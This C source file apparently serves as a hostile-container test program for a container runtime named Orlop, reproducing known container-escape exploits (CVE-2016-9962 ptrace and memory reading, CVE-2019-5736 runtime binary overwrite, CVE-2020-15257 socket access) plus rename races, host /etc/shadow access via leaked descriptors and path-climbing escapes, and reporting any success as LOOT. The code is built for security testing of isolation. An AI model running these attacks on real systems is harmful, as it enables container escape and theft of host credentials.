// What hostile containers run: one static program, one word for each attack.
//
// Nothing here works around Orlop's tests: each attack does what the exploits of the CVE did, and prints
// what it got hold of. A line that begins with LOOT is something a container must never have.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <stddef.h>
#include <unistd.h>

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

// Everything about this process that a runtime decides.
static int report(void) {
    char line[4096], link[4096], path[64];
    FILE *f = fopen("/proc/self/status", "r");
    while (f && fgets(line, sizeof line, f))
        if (!strncmp(line, "Uid", 3) || !strncmp(line, "Gid", 3) || !strncmp(line, "Groups", 6) || !strncmp(line, "Cap", 3) ||
            !strncmp(line, "NoNewPrivs", 10) || !strncmp(line, "Seccomp:", 8))
            printf("%s", line);
    if (f) fclose(f);
    char *cwd = getcwd(line, sizeof line);
    printf("cwd %s\n", cwd ? cwd : "unreachable");
    DIR *d = opendir("/proc/self/fd");
    struct dirent *e;
    while (d && (e = readdir(d))) {
        int fd = atoi(e->d_name);
        if (e->d_name[0] == '.' || fd == dirfd(d)) continue;
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        ssize_t n = readlink(path, link, sizeof link - 1);
        link[n < 0 ? 0 : n] = 0;
        printf("fd %d %s\n", fd, link);
    }
    return 0;
}

// Exchanges the names of each pair for ever: for a moment as fast as it can, then each way stands for a while,
// so that a slow look and a quick one are both met.
__attribute__((noreturn)) static int race(int microseconds, int count, char **names) {
    printf("ready\n");
    fflush(stdout);
    for (unsigned i = 0;; i++) {
        for (int pair = 0; pair + 1 < count; pair += 2)
            syscall(SYS_renameat2, AT_FDCWD, names[pair], AT_FDCWD, names[pair + 1], RENAME_EXCHANGE);
        // An odd number of exchanges between two rests: after each rest it is the other way round.
        if (i % 31 == 0) usleep(microseconds);
    }
}

// Looks for a word in all that a process may write to.
static void search(int pid, const char *word) {
    static char part[1 << 20];
    char path[64], line[512], access[8];
    unsigned long from, to;
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int mem = open(path, O_RDONLY | O_CLOEXEC);
    snprintf(path, sizeof path, "/proc/%d/maps", pid);
    FILE *maps = fopen(path, "r");
    while (mem >= 0 && maps && fgets(line, sizeof line, maps)) {
        if (sscanf(line, "%lx-%lx %7s", &from, &to, access) != 3 || access[1] != 'w') continue;
        for (; from < to; from += sizeof part) {
            ssize_t n = pread(mem, part, to - from < sizeof part ? to - from : sizeof part, from);
            if (n <= 0) break;
            if (memmem(part, n, word, strlen(word))) printf("LOOT the memory of %d tells of another pod\n", pid);
        }
    }
    if (maps) fclose(maps);
    if (mem >= 0) close(mem);
}

// Looks into every process that appears, and traces it if it may (CVE-2016-9962).
static int trace(int seconds, char *word) {
    // What is looked for must not stand in this program's own arguments.
    word[0] ^= 1;
    double end = now() + seconds;
    int self = getpid(), seen = 0, attached = 0, last = self, foreign = 0;
    char path[96], link[512], deep[128];
    // Children of this program's own are not attacked: what it must not see is not here.
    printf("ready\n");
    fflush(stdout);
    while (now() < end) {
        // Numbers are given in order: look just ahead of the last one.
        for (int pid = 1; pid < last + 40; pid++) {
            if (pid == self) continue;
            snprintf(path, sizeof path, "/proc/%d/fd", pid);
            DIR *d = opendir(path);
            if (!d) continue;
            if (pid > last) last = pid;
            seen++;
            int traced = 0;
            snprintf(deep, sizeof deep, "/proc/%d/exe", pid);
            ssize_t n = readlink(deep, link, sizeof link - 1);
            link[n < 0 ? 0 : n] = 0;
            int runtime = strstr(link, "memfd") != NULL;
            int init = 0;
            if (runtime) {
                foreign++;
                char name[32] = "";
                snprintf(deep, sizeof deep, "/proc/%d/comm", pid);
                int c = open(deep, O_RDONLY);
                if (c >= 0) {
                    n = read(c, name, sizeof name - 1);
                    close(c);
                    init = !strncmp(name, "orlop-init", 10);
                }
                if (!init && ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
                    traced = 1;
                    attached++;
                    char caps[2048] = "";
                    snprintf(deep, sizeof deep, "/proc/%d/status", pid);
                    c = open(deep, O_RDONLY);
                    if (c >= 0) {
                        n = read(c, caps, sizeof caps - 1);
                        close(c);
                        char *mode = strstr(caps, "Seccomp:");
                        if (mode) printf("FILTER of %d is %.1s\n", pid, mode + 9);
                        char *eff = strstr(caps, "CapEff:");
                        if (eff) printf("TRACED the runtime's process %d with %.24s\n", pid, eff);
                    }
                    search(pid, word);
                }
            }
            struct dirent *e;
            while ((e = readdir(d))) {
                if (e->d_name[0] == '.') continue;
                snprintf(path, sizeof path, "/proc/%d/fd/%s", pid, e->d_name);
                n = readlink(path, link, sizeof link - 1);
                if (n < 0) continue;
                link[n] = 0;
                // What is open in the runtime's process, but 0 to 2 and its report socket.
                if (runtime && !init && atoi(e->d_name) > 2 && strncmp(link, "socket:", 7))
                    printf("LOOT descriptor %s of %d is %s\n", e->d_name, pid, link);
                // A procfs of the node: the way to the root of its first process.
                snprintf(deep, sizeof deep, "/proc/%d/fd/%s/1/root/etc/shadow", pid, e->d_name);
                int shadow = open(deep, O_RDONLY);
                if (shadow >= 0 && runtime) {
                    printf("LOOT the host's /etc/shadow by %s\n", deep);
                    close(shadow);
                }
            }
            closedir(d);
            if (traced) kill(pid, 0), ptrace(PTRACE_DETACH, pid, 0, 0);
        }
    }
    printf("seen %d foreign %d attached %d\n", seen, foreign, attached);
    return 0;
}

// Stops every process that appears, for ever.
static int hold(int seconds) {
    double end = now() + seconds;
    int next = getpid() + 1;
    char path[64], link[256];
    printf("ready\n");
    fflush(stdout);
    while (now() < end) {
        for (int pid = next; pid < next + 64; pid++) {
            if (ptrace(PTRACE_SEIZE, pid, 0, 0) || ptrace(PTRACE_INTERRUPT, pid, 0, 0)) continue;
            next = pid + 1;
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            ssize_t n = readlink(path, link, sizeof link - 1);
            link[n < 0 ? 0 : n] = 0;
            printf("HELD %d %s\n", pid, strstr(link, "memfd") ? "before" : "after");
        }
    }
    return 0;
}

// Tries to write to the program behind every process (CVE-2019-5736).
static int overwrite(int seconds) {
    double end = now() + seconds;
    int seen = 0, self = getpid(), last = self, opened = 0;
    char path[64], link[256], own[256];
    ssize_t n = readlink("/proc/self/exe", own, sizeof own - 1);
    own[n < 0 ? 0 : n] = 0;
    printf("ready\n");
    fflush(stdout);
    while (now() < end) {
        for (int pid = 1; pid < last + 40; pid++) {
            if (pid == self) continue;
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int fd = open(path, O_PATH | O_CLOEXEC);
            if (fd < 0) continue;
            if (pid > last) last = pid;
            n = readlink(path, link, sizeof link - 1);
            link[n < 0 ? 0 : n] = 0;
            // A program of the container's own is no loot.
            if (!strstr(link, "memfd") && !strstr(link, "orlop")) { close(fd); continue; }
            seen++;
            snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
            // While it runs it is busy: keep the descriptor a while, as the exploit did.
            for (int i = 0; i < 2000; i++) {
                int w = open(path, O_WRONLY | (i & 1 ? O_TRUNC : 0) | O_CLOEXEC);
                if (w < 0) continue;
                opened++;
                if (write(w, "#!/attack overwritten\n", 22) > 0) printf("LOOT wrote to %s\n", link);
                close(w);
            }
            close(fd);
        }
    }
    printf("seen %d opened %d\n", seen, opened);
    return 0;
}

// Connects to every unix socket that this network namespace shows (CVE-2020-15257).
static int scan_unix(void) {
    char line[4096], path[512];
    int flags, type, count = 0, abstract = 0;
    FILE *f = fopen("/proc/net/unix", "r");
    while (f && fgets(line, sizeof line, f)) {
        path[0] = 0;
        if (sscanf(line, "%*s %*s %*s %x %x %*s %*s %511[^\n]", &flags, &type, path) < 2) continue;
        count++;
        if (path[0] != '@') continue;
        abstract++;
        for (int as = 1; as <= 5; as++) {
            int s = socket(AF_UNIX, as, 0);
            struct sockaddr_un a = {.sun_family = AF_UNIX};
            size_t len = strlen(path);
            if (len >= sizeof a.sun_path) len = sizeof a.sun_path - 1;
            memcpy(a.sun_path, path, len);
            a.sun_path[0] = 0;
            if (s >= 0 && connect(s, (void *)&a, offsetof(struct sockaddr_un, sun_path) + len) == 0)
                printf("CONNECTED %s\n", path);
            if (s >= 0) close(s);
        }
    }
    printf("sockets %d abstract %d\n", count, abstract);
    return 0;
}

// A socket that scan_unix must find, so that finding none means something.
static int listen_abstract(const char *name) {
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    struct sockaddr_un a = {.sun_family = AF_UNIX};
    strncpy(a.sun_path + 1, name, sizeof a.sun_path - 2);
    if (bind(s, (void *)&a, offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name)) || listen(s, 8)) return 1;
    puts("ready");
    for (;;) pause();
}

// Writes so many megabytes to standard output.
static int flood(long megabytes) {
    static char block[1 << 20];
    memset(block, 'x', sizeof block);
    for (long i = 0; i < megabytes; i++)
        for (size_t done = 0; done < sizeof block;) {
            ssize_t n = write(1, block + done, sizeof block - done);
            if (n <= 0) return 1;
            done += n;
        }
    return 0;
}

// Says what lies at masked paths: only the null device, an empty directory, or nothing, is good.
static int masked(int count, char **paths) {
    struct stat s;
    int bad = 0;
    for (int i = 0; i < count; i++) {
        if (lstat(paths[i], &s)) continue;
        if (S_ISDIR(s.st_mode)) {
            DIR *d = opendir(paths[i]);
            struct dirent *e;
            int entries = 0;
            while (d && (e = readdir(d))) entries += e->d_name[0] != '.';
            if (d) closedir(d);
            if (entries) bad = printf("LOOT %s is a directory of %d entries\n", paths[i], entries);
        } else if (!S_ISCHR(s.st_mode) || s.st_rdev != makedev(1, 3)) {
            bad = printf("LOOT %s is of mode %o and device %x\n", paths[i], s.st_mode, (unsigned)s.st_rdev);
        }
    }
    return bad != 0;
}

// Tries to write where only the host may: settings of the kernel, the trigger, the canary.
static int settings(int count, char **paths) {
    int bad = 0;
    for (int i = 0; i < count; i++) {
        int fd = open(paths[i], O_WRONLY | O_CLOEXEC);
        if (fd < 0) continue;
        struct stat s;
        fstat(fd, &s);
        if (!S_ISCHR(s.st_mode)) bad = printf("LOOT %s can be written\n", paths[i]);
        close(fd);
    }
    return bad != 0;
}

// Says which mounts show a file system whose directory contains a word, but those at allowed points.
static int mounts(const char *word, int count, char **allowed) {
    char line[8192], root[4096], point[4096];
    int bad = 0;
    FILE *f = fopen("/proc/self/mountinfo", "r");
    if (!f) return 2;
    while (fgets(line, sizeof line, f)) {
        if (sscanf(line, "%*d %*d %*s %4095s %4095s", root, point) != 2) continue;
        if (!strstr(root, word)) continue;
        int good = 0;
        for (int i = 0; i < count; i++) good |= !strcmp(point, allowed[i]);
        if (!good) bad = printf("LOOT mount %s shows %s\n", point, root);
    }
    fclose(f);
    return bad != 0;
}

// Says where file systems are mounted whose directory contains a word.
static int where(const char *word) {
    char line[8192], root[4096], point[4096];
    FILE *f = fopen("/proc/self/mountinfo", "r");
    if (!f) return 2;
    while (fgets(line, sizeof line, f))
        if (sscanf(line, "%*d %*d %*s %4095s %4095s", root, point) == 2 && strstr(root, word)) printf("at %s\n", point);
    fclose(f);
    return 0;
}

// Looks for a name in all that can be reached upwards, and by all descriptors.
static int climb(const char *name) {
    char path[8192] = "", up[8192];
    int bad = 0;
    for (int i = 0; i < 24; i++) {
        strcat(path, "../");
        snprintf(up, sizeof up, "%s%s", path, name);
        if (!access(up, F_OK)) bad = printf("LOOT %s is reached by %s\n", name, up), i = 24;
    }
    for (int fd = 0; fd < 1024; fd++) {
        strcpy(path, "");
        for (int i = 0; i < 24; i++) {
            strcat(path, "../");
            snprintf(up, sizeof up, "/proc/self/fd/%d/%s%s", fd, path, name);
            if (!access(up, F_OK)) bad = printf("LOOT %s is reached by %s\n", name, up), i = 24;
        }
    }
    char *cwd = getcwd(path, sizeof path);
    printf("cwd %s\n", cwd ? cwd : "unreachable");
    return bad != 0;
}

int main(int argc, char **argv) {
    const char *word = argc > 1 ? argv[1] : "report";
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (!strcmp(word, "report")) return report();
    if (!strcmp(word, "sleep")) { puts("ready"); for (;;) pause(); }
    if (!strcmp(word, "race") && argc > 4) return race(atoi(argv[2]), argc - 3, argv + 3);
    if (!strcmp(word, "trace") && argc == 4) return trace(atoi(argv[2]), argv[3]);
    if (!strcmp(word, "hold") && argc == 3) return hold(atoi(argv[2]));
    if (!strcmp(word, "overwrite") && argc == 3) return overwrite(atoi(argv[2]));
    if (!strcmp(word, "scan-unix")) return scan_unix();
    if (!strcmp(word, "listen-abstract") && argc == 3) return listen_abstract(argv[2]);
    if (!strcmp(word, "flood") && argc == 3) return flood(atol(argv[2]));
    if (!strcmp(word, "masked")) return masked(argc - 2, argv + 2);
    if (!strcmp(word, "settings")) return settings(argc - 2, argv + 2);
    if (!strcmp(word, "mounts") && argc > 2) return mounts(argv[2], argc - 3, argv + 3);
    if (!strcmp(word, "cat") && argc == 3) {
        char block[4096];
        int fd = open(argv[2], O_RDONLY | O_NONBLOCK);
        ssize_t n = fd < 0 ? -1 : read(fd, block, sizeof block);
        if (n < 0) return perror(argv[2]), 1;
        return fwrite(block, 1, n, stdout) != (size_t)n;
    }
    if (!strcmp(word, "where") && argc == 3) return where(argv[2]);
    if (!strcmp(word, "climb") && argc == 3) return climb(argv[2]);
    if (!strcmp(word, "link") && argc == 4) { unlink(argv[3]); rmdir(argv[3]); return symlink(argv[2], argv[3]) ? 1 : report(); }
    if (!strcmp(word, "echo")) { for (int i = 2; i < argc; i++) puts(argv[i]); return 0; }
    if (!strcmp(word, "sizes")) {
        // How much of arguments and environment arrived, and whether it is whole.
        extern char **environ;
        size_t bytes = 0, count = 0;
        unsigned long sum = 5381;
        for (char **e = environ; *e; e++) if (!strncmp(*e, "HUGE", 4)) { bytes += strlen(*e); count++; for (char *c = *e; *c; c++) sum = sum * 33 + (unsigned char)*c; }
        printf("variables %zu bytes %zu sum %lx\n", count, bytes, sum & 0xffffffff);
        return report();
    }
    fprintf(stderr, "no attack %s\n", word);
    return 2;
}
